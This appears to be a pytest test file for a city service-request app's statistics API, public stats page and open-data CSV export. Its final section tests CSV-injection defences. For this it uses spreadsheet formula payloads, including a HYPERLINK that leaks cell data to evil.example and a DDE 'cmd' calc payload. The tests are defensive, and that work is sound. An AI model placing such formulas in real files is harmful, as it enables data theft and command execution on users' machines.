"""/api/v1/citistat (JSON, CSV, roles, bad input), the public /citistat page and the
open-data export, on the hand-built history of tests/core/test_citistat.py.

The app's time zone is Europe/Andorra (tests/conftest.py), as in that history; "now" is
the real clock here, so only figures that do not depend on it are asserted exactly."""

from __future__ import annotations

import csv
import io
import re
from typing import Any

import pytest
from sqlalchemy.orm import Session

from core import citistat
from tests import factories as f
from tests.core.test_citistat import History, build_history

PERIOD = {"from": "2026-03-02", "to": "2026-03-15"}


@pytest.fixture
def history(db: Session) -> History:
    return build_history(db)


@pytest.fixture
def dispatcher(db: Session) -> dict[str, str]:
    return f.token_for(db, f.user(db, "disp@example.org", "dispatcher"))


def get(client: Any, headers: dict[str, str], **params: str) -> Any:
    return client.get("/api/v1/citistat", query_string={**PERIOD, **params}, headers=headers)


def test_json_per_service_type_with_total(client: Any, history: History, dispatcher: dict[str, str]) -> None:
    r = get(client, dispatcher, group_by="service_type")
    assert r.status_code == 200, r.get_json()
    body = r.get_json()
    assert (body["from"], body["to"], body["timezone"], body["group_by"]) == ("2026-03-02", "2026-03-15", "Europe/Andorra", "service_type")
    rows = {row["group"]: row for row in body["rows"]}
    assert set(rows) == {"pothole", "graffiti"}
    p = rows["pothole"]
    assert (p["label"], p["received"], p["duplicates"], p["closed"], p["closed_fixed_verified"]) == ("Pothole", 5, 1, 3, 2)
    assert (p["median_hours_to_close"], p["reopened"], p["ever_closed"], p["completions"]) == (20.0, 2, 4, 5)
    t = body["total"]
    assert (t["received"], t["closed"], t["closed_other"]["cancelled"], t["completions_rejected"]) == (9, 6, 1, 1)
    assert (t["shift_hours"], t["drive_hours"], t["on_site_hours"], t["planned_stops"], t["planned_done"]) == (26.0, 2.0, 5.75, 3, 2)
    assert rows["pothole"]["shift_hours"] is None


@pytest.mark.parametrize(
    ("group_by", "expected"),
    [
        ("agency", {"Roads": 5, "Sanitation": 4}),
        ("service_type", {"pothole": 5, "graffiti": 4}),
        ("district", {"north": 5, "south": 3, None: 1}),
        ("crew", {"c1": 2, "c2": 2, None: 5}),
        ("week", {"2026-03-02": 5, "2026-03-09": 4}),
    ],
)
def test_every_group_by(client: Any, history: History, dispatcher: dict[str, str], group_by: str,
                        expected: dict[str | None, int]) -> None:
    r = get(client, dispatcher, group_by=group_by)
    assert r.status_code == 200, r.get_json()
    body = r.get_json()
    assert {row["group"]: row["received"] for row in body["rows"]} == expected
    assert body["total"]["received"] == 9


def test_csv_by_format_and_by_accept_header(client: Any, history: History, dispatcher: dict[str, str]) -> None:
    r = get(client, dispatcher, group_by="crew", format="csv")
    assert r.status_code == 200
    assert r.mimetype == "text/csv"
    assert 'filename="citistat_crew_2026-03-02_2026-03-15.csv"' in r.headers["Content-Disposition"]
    rows = list(csv.DictReader(io.StringIO(r.get_data(as_text=True))))
    assert list(rows[0]) == citistat.FLAT_COLUMNS
    assert [row["group"] for row in rows] == ["c1", "c2", "", ""]
    assert rows[-1]["label"] == "Total"
    c2 = rows[1]
    assert (c2["received"], c2["closed_not_found"], c2["completions"], c2["shift_hours"], c2["jobs_per_shift_hour"]) == ("2", "1", "4", "10.0", "0.3")
    assert (rows[-1]["backlog_gt_30d"], rows[-1]["on_site_hours"], rows[-1]["planned_done"]) == ("3", "5.75", "2")
    by_header = client.get("/api/v1/citistat", query_string={**PERIOD, "group_by": "crew"},
                           headers={**dispatcher, "Accept": "text/csv"})
    assert by_header.mimetype == "text/csv"
    # Generated at a different instant: the open-age figures may differ, the rest not.
    assert by_header.get_data(as_text=True).splitlines()[0] == r.get_data(as_text=True).splitlines()[0]
    as_json = client.get("/api/v1/citistat", query_string=PERIOD, headers={**dispatcher, "Accept": "*/*"})
    assert as_json.mimetype == "application/json"


@pytest.mark.parametrize(
    ("params", "field"),
    [
        ({"from": "2026-03-15", "to": "2026-03-02"}, "from"),
        ({"group_by": "colour"}, "group_by"),
        ({"from": "2026-02-30"}, "from"),
        ({"to": "yesterday"}, "to"),
        ({"format": "xlsx"}, "format"),
    ],
)
def test_bad_input_is_a_422_json_error(client: Any, db: Session, dispatcher: dict[str, str], params: dict[str, str],
                                       field: str) -> None:
    r = client.get("/api/v1/citistat", query_string={**PERIOD, **params}, headers=dispatcher)
    assert r.status_code == 422
    body = r.get_json()
    assert body["code"] == 422 and body["status"] == "Unprocessable Content" and body["message"]
    assert field in body["errors"]


def test_roles(client: Any, db: Session) -> None:
    crew = f.crew(db, "c9")
    assert client.get("/api/v1/citistat").status_code == 401
    crew_headers = f.token_for(db, f.user(db, "crew@example.org", "crew", crew=crew))
    r = client.get("/api/v1/citistat", headers=crew_headers)
    assert r.status_code == 403 and r.get_json()["code"] == 403
    for role in ("dispatcher", "supervisor", "admin"):
        headers = f.token_for(db, f.user(db, f"{role}@example.org", role))
        assert client.get("/api/v1/citistat", query_string=PERIOD, headers=headers).status_code == 200, role


def test_documented_in_openapi(client: Any) -> None:
    spec = client.get("/openapi.json").get_json()
    op = spec["paths"]["/api/v1/citistat"]["get"]
    assert op["security"] == [{"bearer": []}]
    assert {p["name"] for p in op["parameters"]} >= {"from", "to", "group_by", "format"}


# -- the public page ----------------------------------------------------------------


def test_public_page_shows_the_numbers_without_scripts_or_people(client: Any, history: History) -> None:
    r = client.get("/citistat", query_string=PERIOD)
    assert r.status_code == 200
    assert r.mimetype == "text/html"
    html = r.get_data(as_text=True)
    assert re.search(r'id="total-received">9<', html)
    assert re.search(r'id="total-closed">6<', html)
    assert re.search(r'id="total-fixed">2<', html)
    assert re.search(r'id="total-median">20.0 h<', html)
    assert re.search(r'id="total-p90">not reached<', html)
    # Tables per district and per type: north received 5 of which 3 closed, 2 fixed with proof.
    assert re.search(r"<td>North</td><td>5</td><td>3</td><td>2</td>", html)
    assert re.search(r"<td>Graffiti</td><td>4</td><td>3</td><td>0</td>", html)
    assert re.search(r"<td>\(outside districts\)</td><td>1</td><td>1</td>", html)
    # Charts are inline SVG drawn on the server; nothing is loaded from elsewhere.
    assert html.count("<svg") == 7
    assert "3 / 5" in html  # north: closed of received
    assert "<script" not in html
    assert not re.search(r"""(src|href)=["']?https?://""", html)
    assert "@media print" in html and 'name="viewport"' in html
    # Aggregates only: no crew, no reporter, no token.
    for private in ("c1", "c2", "c1@example.org", "resident@example.org", "555 0101", "tok-secret"):
        assert private not in html
    assert "default-src 'none'" in r.headers["Content-Security-Policy"]


def test_public_page_bad_dates(client: Any, db: Session) -> None:
    r = client.get("/citistat", query_string={"from": "2026-03-15", "to": "2026-03-01"})
    assert r.status_code == 422
    assert "is after" in r.get_data(as_text=True)
    assert client.get("/citistat", query_string={"from": "nope"}).status_code == 422
    assert client.get("/citistat", query_string={"from": "2024-01-01", "to": "2026-01-01"}).status_code == 422


# -- open data ------------------------------------------------------------------------


def test_open_data_export_columns_and_no_private_data(client: Any, history: History) -> None:
    r = client.get("/open-data/requests.csv", query_string={"from": "2026-01-01", "to": "2026-03-31"})
    assert r.status_code == 200
    assert r.mimetype == "text/csv"
    assert r.is_streamed
    text_body = r.get_data(as_text=True)
    rows = list(csv.DictReader(io.StringIO(text_body)))
    assert list(rows[0]) == list(citistat.OPEN_DATA_COLUMNS)
    # 9 in the period, 2 just outside it (still in March) and the February report with a contact.
    assert len(rows) == 12
    g0 = next(row for row in rows if row["id"] == history.requests["G0"].public_id)
    assert g0 == {
        "id": history.requests["G0"].public_id, "created": "2026-03-02T00:30:00+01:00", "closed": "2026-03-02T01:30:00+01:00",
        "agency": "Sanitation", "type": "graffiti", "type_name": "Graffiti", "descriptor": history.requests["G0"].description,
        "status": "closed", "resolution": "cancelled", "district": "", "lat": f"{f.LAT:.6f}", "long": f"{f.LON:.6f}",
    }
    p3 = next(row for row in rows if row["id"] == history.requests["P3"].public_id)
    assert (p3["status"], p3["resolution"], p3["closed"], p3["district"]) == ("open", "", "", "north")
    for private in ("resident@example.org", "555 0101", "tok-secret", "@"):
        assert private not in text_body
    for req in history.requests.values():
        assert req.token not in text_body


def test_open_data_period_and_bad_input(client: Any, history: History) -> None:
    r = client.get("/open-data/requests.csv", query_string=PERIOD)
    assert len(list(csv.DictReader(io.StringIO(r.get_data(as_text=True))))) == 9
    bad = client.get("/open-data/requests.csv", query_string={"from": "2026-13-01"})
    assert bad.status_code == 422 and bad.get_json()["errors"] == {"from": [bad.get_json()["message"]]}


# -- spreadsheet formulas (CSV injection) -----------------------------------------------------

# What a spreadsheet would run: each begins with a character that starts a formula.
FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")', "+1", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1"]


def _quoted(cell: str) -> str:
    """A cell as RFC 4180 writes it in quotes: inner quotes doubled."""
    return '"' + cell.replace('"', '""') + '"'


def _today(client: Any) -> str:
    from datetime import datetime

    return datetime.now(client.application.extensions["streetloop.settings"].tz).date().isoformat()


def test_open_data_csv_turns_residents_formulas_into_text(client: Any, db: Session) -> None:
    f.service_type(db)
    f.service_type(db, "litter", name="\t=cmd|' /C calc'!A0")  # staff-typed text is neutralised too
    f.api_key(db)
    db.commit()
    # Through the public Open311 intake, as a resident would send them; one report west of
    # Greenwich, whose negative longitude must stay a number.
    sent = []
    for i, text in enumerate([*FORMULAS, "A plain pothole, 30 cm"]):
        lon = "-3.5" if i == 0 else str(f.LON)
        r = client.post("/open311/v2/requests.json", data={
            "api_key": f.API_KEY, "service_code": "litter" if i == 1 else "pothole", "lat": str(f.LAT), "long": lon,
            "description": text})
        assert r.status_code == 201, r.data
        sent.append(text.strip())  # intake trims what a resident typed
    r = client.get("/open-data/requests.csv", query_string={"from": _today(client), "to": _today(client)})
    assert r.status_code == 200
    body = r.get_data(as_text=True)
    rows = list(csv.DictReader(io.StringIO(body)))
    descriptors = sorted(row["descriptor"] for row in rows)
    assert descriptors == sorted(("'" + t if t[0] in "=+-@" else t) for t in sent)
    # No text cell of the file starts a formula; each is quoted in the file itself.
    for row in rows:
        for column in ("id", "agency", "type", "type_name", "descriptor", "status", "district"):
            assert not row[column].startswith(("=", "+", "-", "@", "\t", "\r")), (column, row[column])
    assert _quoted("'" + FORMULAS[0]) in body
    assert _quoted("'\t=cmd|' /C calc'!A0") in body
    # Coordinates are numbers: bare in the file, negative sign and all.
    west = next(row for row in rows if row["descriptor"].startswith("'=HYPERLINK"))
    assert (west["lat"], west["long"]) == (f"{f.LAT:.6f}", "-3.500000")
    assert f',{f.LAT:.6f},-3.500000\r\n' in body


def test_staff_citistat_csv_turns_formulas_in_names_into_text(client: Any, db: Session, dispatcher: dict[str, str]) -> None:
    for i, name in enumerate(FORMULAS):
        f.service_type(db, f"type_{i}", name=name)
        f.report(db, f"type_{i}")
    db.commit()
    r = client.get("/api/v1/citistat", query_string={"from": _today(client), "to": _today(client),
                                                       "group_by": "service_type", "format": "csv"}, headers=dispatcher)
    assert r.status_code == 200 and r.mimetype == "text/csv"
    body = r.get_data(as_text=True)
    rows = list(csv.DictReader(io.StringIO(body)))
    assert sorted(row["label"] for row in rows if row["group"]) == sorted("'" + n for n in FORMULAS)
    for name in FORMULAS:
        assert _quoted("'" + name) in body
    # The figures stay numbers: bare, so a spreadsheet can sum them.
    total = next(line for line in body.split("\r\n") if line.startswith('"","Total",'))
    assert total.split(",")[2] == "6"
